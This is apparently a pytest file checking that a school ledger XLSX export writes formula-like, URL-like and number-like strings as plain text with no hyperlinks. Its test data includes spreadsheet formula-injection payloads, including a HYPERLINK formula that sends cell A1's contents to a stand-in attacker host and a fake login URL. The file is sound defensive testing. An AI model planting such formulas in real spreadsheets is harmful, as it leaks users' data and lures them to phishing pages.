"""The XLSX writer keeps strings strings (issue 14): in the ledger export opened with openpyxl, a school name
or a letter's title that looks like a formula, a URL or a number is text, exactly as typed, with no link."""

from __future__ import annotations

import io
from datetime import UTC, datetime

import openpyxl
import pytest

from services.archive.exports import ledger_xlsx
from services.archive.ledger import SchoolInfo, build_ledger
from shared.sheets import xlsx_workbook
from tests.test_archive_ledger_pure import NOW, PERIOD, row

pytestmark = pytest.mark.pure

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(1,2)",
           "https://evil.example/login", "mailto:a@evil.example", "0012345"]
LETTER = {"approved_at": datetime(2026, 10, 2, tzinfo=UTC), "school_id": "a", "has_roster": True,
          **dict.fromkeys(("recipients", "sent", "failed", "no_contact", "by_sms", "by_email", "read", "wrong_number",
                           "delivered", "undelivered"), 0)}


def test_hostile_cells_stay_text_in_the_ledger_export() -> None:
    schools = {f"s{i}": SchoolInfo(text, "lechang") for i, text in enumerate(HOSTILE)}
    ledger = build_ledger([row(s, "2026-10", incidents=1) for s in schools], PERIOD, schools, NOW)
    letters = [{**LETTER, "title": text, "school_id": f"s{i}"} for i, text in enumerate(HOSTILE)]
    book = openpyxl.load_workbook(io.BytesIO(ledger_xlsx(ledger, letters)))
    for name, column in (("台账", 3), ("致家长的信", 1)):
        sheet = book[name]
        cells = [sheet.cell(r, column) for r in range(2, sheet.max_row + 1)]
        found = {c.value: c for c in cells if c.value in HOSTILE}
        assert set(found) == set(HOSTILE), (name, [c.value for c in cells])
        for c in found.values():
            assert c.data_type == "s" and c.hyperlink is None, (name, c.value, c.data_type)
        assert not sheet._hyperlinks and not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_the_writer_itself() -> None:
    out = io.BytesIO()
    book = xlsx_workbook(out)
    book.add_worksheet("x").write_row(0, 0, HOSTILE)
    book.close()
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["x"]
    assert [c.value for c in sheet[1]] == HOSTILE and {c.data_type for c in sheet[1]} == {"s"}
